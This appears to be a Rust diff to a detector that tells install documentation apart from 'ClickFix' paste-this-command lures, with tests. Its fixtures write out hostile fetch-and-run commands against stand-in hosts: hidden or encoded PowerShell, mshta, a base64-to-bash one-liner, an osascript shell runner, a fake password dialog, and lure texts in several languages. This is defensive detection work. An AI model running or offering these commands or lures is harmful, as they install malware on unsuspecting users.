@@ -136,6 +136,11 @@ pub struct Command {
     pub shown: String,
     /// What the person would see instead: the comment after the command (defanged, short).
     pub comment: String,
+    /// The command before any padding, flattened: compared with the page's own text.
+    flat: String,
+    /// Every address it fetches is how installers are published: https, a host name, and a
+    /// named `.ps1` script or `.msi` package (or the site's root, `get.example.sh`).
+    published: bool,
 }
 
 impl Command {
@@ -149,6 +154,26 @@ impl Command {
     /// A Windows command worth warning about next to run-dialog steps alone. A bare `cmd /c` or
     /// `rundll32` that fetches nothing is what IT help articles give for the Run box
     /// (`cmd /c ipconfig /flushdns`, `rundll32 sysdm.cpl,EditEnvironmentVariables`).
+    /// Only shapes that install docs and tutorials give: `irm … | iex`, a flagged `powershell`,
+    /// `msiexec /i https://…` for PowerShell (Admin) or the Run box; `curl | sh`,
+    /// `curl -LO … && chmod +x` and an `osascript` that runs no shell and asks for no password
+    /// for Terminal. Anything that hides a window, encodes the script, decodes base64 into a
+    /// shell or goes through mshta, regsvr32, certutil … is never documentation.
+    pub fn install_like(&self) -> bool {
+        self.published
+            && self.shapes.iter().all(|s| match s {
+                Shape::PowerShellDownload
+                | Shape::PowerShell
+                | Shape::MsiexecUrl
+                | Shape::PipeToShell
+                | Shape::DownloadExec => true,
+                Shape::Osascript => !["shell script", "hidden answer", "password", "://"]
+                    .iter()
+                    .any(|w| has(&self.flat, w)),
+                _ => false,
+            })
+    }
+
     pub fn windows_payload(&self) -> bool {
         self.shapes.iter().any(|s| {
             s.platform() == Platform::Windows
@@ -484,6 +509,30 @@ fn split_padding(raw: &str) -> Option<(&str, &str)> {
     (n >= PAD_ANYWHERE || comment && n >= PAD_BEFORE_COMMENT).then_some((before, after))
 }
 
+/// Whether every address in `flat` is one an install page publishes: `https://` to a host name
+/// (not a bare IP); for a Windows command, with no path or a path naming a `.ps1` script or an
+/// `.msi` package. Lures fetch `http://203.0.113.5/x`, `/verify`, `/p.txt`, a UNC share.
+fn published(flat: &str, windows: bool) -> bool {
+    if has(flat, "http:") || has(flat, "\\\\") || has(flat, "ftp:") {
+        return false;
+    }
+    tokens(flat).iter().all(|t| {
+        let Some(i) = t.find("://") else {
+            return true;
+        };
+        let rest = &t[i + 3..];
+        let (host, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
+        let path = path.split(['?', '#']).next().unwrap_or("");
+        let tld_is_name = host
+            .rsplit('.')
+            .next()
+            .is_some_and(|tld| tld.bytes().any(|b| b.is_ascii_alphabetic()));
+        t[..i].ends_with("https")
+            && tld_is_name
+            && (!windows || path.len() <= 1 || path.ends_with(".ps1") || path.ends_with(".msi"))
+    })
+}
+
 /// Reads the copied text. `None` when it is not a command this module recognises.
 pub fn recognise(raw: &str) -> Option<Command> {
     let mut raw = raw.to_string();
@@ -494,6 +543,7 @@ pub fn recognise(raw: &str) -> Option<Command> {
     if shapes.is_empty() {
         return None;
     }
+    let windows = shapes.iter().any(|s| s.platform() == Platform::Windows);
     let (cmd_part, tail) = padding.unwrap_or((raw.as_str(), ""));
     // The comment after the padding, or a trailing `# …` on one line, is what the person sees.
     let comment = if !tail.is_empty() {
@@ -510,6 +560,8 @@ pub fn recognise(raw: &str) -> Option<Command> {
         comment_pretext,
         shown: defang(cmd_part),
         comment: defang(&comment.chars().take(60).collect::<String>()),
+        flat: flatten(cmd_part),
+        published: published(&flat, windows),
     })
 }
 
@@ -607,6 +659,8 @@ pub fn defang(raw: &str) -> String {
 pub struct PageHits {
     base: String,
     hits: Vec<Hit>,
+    /// The page's text flattened like a command: finds a command the page shows as it copies it.
+    flat: String,
 }
 
 impl PageHits {
@@ -615,10 +669,13 @@ impl PageHits {
     pub fn new<'a>(parts: impl IntoIterator<Item = &'a str>) -> PageHits {
         let mut base = String::new();
         let mut skel = String::new();
+        let mut flat = String::new();
         for p in parts {
             if p.trim().is_empty() {
                 continue;
             }
+            flat.push(' ');
+            flat.push_str(&flatten(p));
             let n = normalize(p);
             base.push_str(" \n ");
             skel.push_str(" \n ");
@@ -632,11 +689,39 @@ impl PageHits {
             .filter(|h| {
                 matches!(
                     h.cat,
-                    Cat::RunDialog | Cat::PasteStep | Cat::RunTerminal | Cat::VerifyHuman
+                    Cat::RunDialog
+                        | Cat::PasteStep
+                        | Cat::RunTerminal
+                        | Cat::VerifyHuman
+                        | Cat::FixPretext
+                        | Cat::InstallDocs
+                        | Cat::Error
+                        | Cat::Infection
+                        | Cat::System
                 )
             })
             .collect();
-        PageHits { base, hits }
+        PageHits { base, hits, flat }
+    }
+
+    /// The page shows the command it copies (a code block next to its copy button): what the
+    /// person sees is what they paste. Short commands prove nothing.
+    fn shows(&self, command: &Command) -> bool {
+        command.flat.len() >= 16 && has(&self.flat, &command.flat)
+    }
+
+    /// Install documentation, not a lure: the page documents an installation (or shows the
+    /// command it copies) and dresses it as nothing else: no verification, no error, repair,
+    /// missing update or file to open, no infection or system screen.
+    fn documents_install(&self, command: &Command) -> bool {
+        let framed = self.weight(Cat::InstallDocs) >= 1.0 || self.shows(command);
+        let pretext = self.hits.iter().any(|h| {
+            matches!(
+                h.cat,
+                Cat::VerifyHuman | Cat::FixPretext | Cat::Error | Cat::Infection | Cat::System
+            )
+        });
+        framed && !pretext
     }
 
     fn of(&self, cat: Cat) -> impl Iterator<Item = &Hit> {
@@ -777,11 +862,16 @@ fn assess_command(command: Command, page: &PageHits) -> Option<ClickFix> {
         .map(|h| h.weight)
         .fold(0.0f32, f32::max)
         >= 1.0;
-    let windows_run = run_dialog && command.windows_payload();
+    // Install docs send people to PowerShell (Admin), the Run box or Terminal too ("press Win+X,
+    // choose Terminal (Admin), paste"): with a command docs give and nothing dressing it up, they
+    // are documentation; a lure always adds its story (verify, fix, update, open the file).
+    let docs = command.install_like() && page.documents_install(&command);
+    let windows_run = run_dialog && command.windows_payload() && !docs;
     // The Mac variant: Terminal and paste steps are what developer docs say too ("paste this in
-    // Terminal"); only a shape no install command has makes them ClickFix.
+    // Terminal"); only a strong shape outside install docs makes them ClickFix.
     let mac_run = terminal
         && paste
+        && !docs
         && command
             .shapes
             .iter()
@@ -1216,6 +1306,96 @@ mod tests {
     }
 
     #[test]
+    fn install_docs_may_send_people_to_powershell_admin() {
+        // Invented install pages: the Run box, Win+X or PowerShell (Admin) with a command docs
+        // give, framed as an installation (or showing what they copy), with no story around it.
+        for (clip, text) in [
+            (
+                "irm https://get.example.test/install.ps1 | iex",
+                "Installation on Windows: press Win + X, choose Terminal (Admin), paste the \
+                 command and press Enter.",
+            ),
+            (
+                "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object \
+                 System.Net.WebClient).DownloadString('https://pkg.example.test/install.ps1'))",
+                "Run the following command in an administrative shell (right-click Start, \
+                 Windows PowerShell (Admin)), paste it and press Enter.",
+            ),
+            (
+                "msiexec /i https://dl.example.test/agent.msi /qn",
+                "Silent install of the agent: open the Run dialog (Win+R), paste this and press \
+                 Enter. Service desk: 555-0142.",
+            ),
+            (
+                "irm https://wren.example.test/install.ps1 | iex",
+                "インストール方法: Win + X を押して ターミナル (管理者) を開き、貼り付けて Enter。",
+            ),
+            (
+                "msiexec /i https://dl.example.test/lark.msi /qn",
+                "Installation silencieuse : ouvrez la boîte de dialogue Exécuter (touche Windows + \
+                 R), collez la commande suivante et appuyez sur Entrée.",
+            ),
+            // A tutorial with no install word shows the exact command its button copies.
+            (
+                "irm https://tutorial.example.test/hello.ps1 | iex",
+                "Lesson 7. Open Windows PowerShell (Admin) from the Win + X menu, paste the \
+                 example and press Enter:\nirm https://tutorial.example.test/hello.ps1 | iex\nCopy",
+            ),
+        ] {
+            assert!(!judged(clip, text), "{text}");
+        }
+    }
+
+    #[test]
+    fn a_lure_stays_a_lure_with_install_words() {
+        // The same commands with the story a kit tells: a verification, an error to fix, an
+        // update said to be missing, a file to open, an infection.
+        let clip = "irm https://x.example/install.ps1 | iex";
+        for text in [
+            "Install the security update: your browser is out of date. Press Win + X, open \
+             Terminal (Admin), paste and press Enter.",
+            "Verify you are human. To install the check, press Win + R, Ctrl + V, Enter.",
+            "Your microphone is not working. To fix it, install the driver: press Win + X, \
+             choose Terminal (Admin), paste and press Enter.",
+            "Threat detected on this PC. Install the cleaner: press Win + R, paste, press Enter.",
+            "Ihr Browser ist veraltet. Installieren Sie das Update: Windows-Taste + R, einfügen, \
+             Eingabetaste.",
+            "浏览器版本过旧。安装更新：按 Win + R，粘贴并按回车。",
+        ] {
+            assert!(judged(clip, text), "{text}");
+        }
+        // Shapes no install page gives stay ClickFix next to install words.
+        let docs = "Installation: press Win + R, paste and press Enter.";
+        for clip in [
+            "powershell -w h -c \"irm https://x.example/install.ps1 | iex\"",
+            "powershell -enc SQBFAFgAIAAoAGkAdwByACkA",
+            "mshta https://x.example/install.hta",
+            "curl.exe -L https://x.example/setup.exe -o %TEMP%\\s.exe & start %TEMP%\\s.exe",
+            // Fetched as no installer is published: plain http, a bare IP, an unnamed path, a
+            // script dressed as text, a share.
+            "irm http://x.example/install.ps1 | iex",
+            "irm https://203.0.113.5/install.ps1 | iex",
+            "irm https://x.example/p | iex",
+            "iex (iwr https://x.example/font-pack.txt -UseBasicParsing)",
+            "msiexec /i https://x.example/update?id=5 /qn",
+            "powershell -c \\\\x.example@SSL\\share\\install.ps1",
+        ] {
+            assert!(judged(clip, docs), "{clip}");
+        }
+        // No framing at all: the run-dialog steps alone still make it ClickFix.
+        assert!(judged(
+            clip,
+            "Hold the Windows key and press R, paste and press Enter."
+        ));
+        // Showing a command is no excuse for a page that also tells a story.
+        assert!(judged(
+            "irm https://x.example/fix.ps1 | iex",
+            "Something went wrong. How to fix: press Win + X, open Terminal (Admin), paste \
+             irm https://x.example/fix.ps1 | iex and press Enter."
+        ));
+    }
+
+    #[test]
     fn mac_variant() {
         let clip = "echo Y3VybCAtcyBodHRwczovL3guZXhhbXBsZQ== | base64 -d | bash";
         assert!(judged(
@@ -1230,6 +1410,41 @@ mod tests {
             "curl -fsSL https://x.example/i | bash",
             "Open Terminal and paste it, press Return"
         ));
+        // Install docs and tutorials for Terminal: a binary fetched over https and made
+        // executable, an AppleScript one-liner that runs no shell; shown as copied or framed as
+        // an installation.
+        let get = "curl -LO https://dl.example.test/v1/darwin/otter && chmod +x otter && \
+                   sudo mv otter /usr/local/bin/";
+        assert!(!judged(
+            get,
+            &format!("Installation: open Terminal, paste and press Return.\n{get}\nCopy")
+        ));
+        let note = "osascript -e 'display notification \"Hello\" with title \"Demo\"'";
+        assert!(!judged(
+            note,
+            &format!("Tutorial: open Terminal, paste this line and press Return.\n{note}")
+        ));
+        // The same steps with a lure's command or story stay ClickFix.
+        for (clip, text) in [
+            (
+                get,
+                "Safari is out of date. Open Terminal, paste and press Return. Install.",
+            ),
+            (
+                "curl -o /tmp/v http://x.example/v && chmod +x /tmp/v && /tmp/v",
+                "Installation: open Terminal, paste and press Return.",
+            ),
+            (
+                "osascript -e 'do shell script \"curl -s https://x.example/u | sh\"'",
+                "Installation: open Terminal, paste and press Return.",
+            ),
+            (
+                "osascript -e 'display dialog \"Update\" default answer \"\" with hidden answer'",
+                "Installation: open Terminal, paste and press Return.",
+            ),
+        ] {
+            assert!(judged(clip, text), "{clip}");
+        }
     }
 
     #[test]
